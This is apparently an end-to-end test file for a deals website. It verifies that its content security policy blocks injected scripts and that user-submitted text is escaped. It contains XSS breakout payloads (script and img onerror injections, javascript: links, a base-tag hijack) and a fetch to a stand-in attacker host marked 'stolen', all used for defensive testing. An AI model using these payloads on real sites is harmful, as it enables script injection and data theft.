import { expect, openPage, test } from "../support/journey.ts";
import { ADMIN } from "../support/people.ts";

const SCRIPT = "window.hasRun = true";
/** Without escaping, this breaks out of a text, an attribute, the page's data, its JSON-LD or its title. */
const HOSTILE = `</title></script><script>${SCRIPT}</script>"'><img src=x onerror="${SCRIPT}">`;

declare global {
  interface Window {
    hasRun?: boolean;
  }
}

// T16 and T22: the content security policy is the second defense, so this bypasses the first one, escaping.
test("an injected script does not run: inline, in an attribute, from an address, or through eval", async ({
  page,
  consoleErrors,
}) => {
  await openPage(page, "/");
  const violated = await page.evaluate(async (script) => {
    const names: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      names.push(event.effectiveDirective);
    });
    const element = (tag: string, properties: object) =>
      document.body.append(Object.assign(document.createElement(tag), properties));
    element("script", { textContent: script });
    element("script", { src: "https://evil.example/x.js" });
    element("script", { src: `data:text/javascript,${script}` });
    element("div", { innerHTML: `<img src="/gone.webp" onerror="${script}">` });
    element("div", { innerHTML: `<p style="background:url(http://evil.example/x)">x</p>` });
    element("object", { data: "https://evil.example/x.swf" });
    element("base", { href: "https://evil.example/" });
    const link = Object.assign(document.createElement("a"), { href: `javascript:${script}` });
    document.body.append(link);
    link.click();
    await fetch("https://evil.example/?stolen").catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 1_000));
    // Runs after the wait, in a task of the page, because the browser driver's own task may turn text into code.
    try {
      Reflect.construct(Function, [script])();
    } catch {
      // Refused as expected.
    }
    return names;
  }, SCRIPT);
  expect(await page.evaluate(() => window.hasRun)).toBeUndefined();
  for (const directive of [
    "script-src-elem",
    "script-src-attr",
    "style-src-attr",
    "object-src",
    "base-uri",
    "connect-src",
  ]) {
    expect(violated, directive).toContain(directive);
  }
  // The browser reports each violation.
  consoleErrors.length = 0;
});

test("a member's text is escaped in the page, its data, its title and its structured data", async ({
  page,
}) => {
  const config = await (await page.request.get("/config.json")).json();
  const signedIn = await page.request.post("/auth/v1/token?grant_type=password", {
    headers: { apikey: config.supabaseAnonKey },
    data: ADMIN,
  });
  const { access_token: token } = await signedIn.json();
  const response = await page.request.post("/rest/v1/rpc/secure_submit_deal", {
    headers: { apikey: config.supabaseAnonKey, authorization: `Bearer ${token}` },
    data: {
      title_param: `Oil ${HOSTILE}`.slice(0, 140),
      description_param: HOSTILE,
      merchant_param: HOSTILE.slice(0, 80),
      location_param: HOSTILE.slice(0, 120),
      category_param: "food",
      price_param: 4,
    },
  });
  expect(response.status()).toBe(200);
  const { id } = await response.json();
  for (const address of [`/deals/${id}`, "/", "/category/food", "/search?q=Oil%20%3C%2Ftitle"]) {
    await openPage(page, address);
    await expect(page.getByText("</title></script>").first()).toBeVisible();
    expect(await page.evaluate(() => window.hasRun), address).toBeUndefined();
    expect(await page.locator("[onerror]").count(), address).toBe(0);
  }
});
